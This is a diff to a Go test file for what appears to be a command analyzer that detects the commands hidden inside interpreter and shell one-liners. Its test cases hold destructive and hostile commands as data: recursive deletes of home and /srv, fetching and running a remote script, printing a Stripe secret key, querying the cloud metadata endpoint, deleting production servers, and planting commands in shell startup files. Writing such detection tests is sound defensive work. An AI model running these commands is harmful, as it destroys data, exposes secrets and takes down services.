@@ -244,6 +244,19 @@ func TestMoreLanguageIdioms(t *testing.T) {
 		{`deno eval "await new Deno.Command('rm', {args: ['-rf', '/srv/data']}).output()"`, "rm", "-rf /srv/data"},
 		{`deno eval "const s = await (await fetch('https://example.com/x.sh')).text(); await new Deno.Command('sh', {args: ['-c', s]}).output()"`, "sh", ""},
 		{`Rscript -e 'cat(Sys.getenv("STRIPE_SECRET_KEY"))'`, "printenv", "STRIPE_SECRET_KEY"},
+		// Switches bundled with the code switch.
+		{`perl -le 'system("rm -rf ~")'`, "rm", "-rf ~"},
+		{`ruby -ne 'system("rm -rf /srv")'`, "rm", "-rf /srv"},
+		{`python3 -uc 'import os; os.system("rm -rf /srv")'`, "rm", "-rf /srv"},
+		// Bun's shell and zx templates; Julia's command literals read.
+		{"bun -e 'await Bun.$`rm -rf ${process.env.HOME}`'", "rm", "-rf ~"},
+		{"node -e 'await $`git push --force origin main`'", "git", "push --force origin main"},
+		{"julia -e 'print(read(`curl -s http://169.254.169.254/latest/`, String))'", "curl", "-s http://169.254.169.254/latest/"},
+		// parallel hands one quoted command line to a shell.
+		{`parallel 'hcloud server delete {}' ::: prod-app-1 prod-app-2`, "hcloud", "server delete prod-app-2"},
+		// A line added to a shell's startup file is walked as a command.
+		{`echo 'flyctl apps destroy api-prod --yes >/dev/null 2>&1' >> ~/.bashrc`, "flyctl", "apps destroy api-prod --yes"},
+		{`printf 'rm -rf ~/work\n' >> ~/.zshrc`, "rm", "-rf ~/work"},
 	}
 	for _, c := range cases {
 		wantWalked(t, c.src, c.name, c.args)
@@ -252,6 +265,15 @@ func TestMoreLanguageIdioms(t *testing.T) {
 	wantWalked(t, `lua -e 'local f = io.open(os.getenv("HOME") .. "/.bash_profile", "a"); f:write("x"); f:close()'`, "printf", "%s x")
 	if walked(`lua -e 'local f = io.open(os.getenv("HOME") .. "/.bash_profile", "a"); f:write("x"); f:close()'`, "cat", "") {
 		t.Errorf("a Lua append was read as a read of the file")
+	}
+	// An interpolated JavaScript value the code does not set is unknown,
+	// not the shell variable of the same name.
+	if src := "dir=/srv; bun -e 'await Bun.$`ls ${dir}`'"; !walked(src, "ls", "") || walked(src, "ls", "/srv") {
+		t.Errorf("%s: want ls of an unknown value, got %v", src, cmds(t, src, NewState()))
+	}
+	// Text echoed into other files is not run.
+	if walked(`echo 'rm -rf ~/work' >> notes.txt`, "rm", "") {
+		t.Errorf("a line echoed into a plain file was walked")
 	}
 	// A length test prints no secret.
 	for _, src := range []string{`Rscript -e 'cat(nchar(Sys.getenv("STRIPE_SECRET_KEY")) > 0)'`, `Rscript -e 'cat(nzchar(Sys.getenv("K")))'`} {
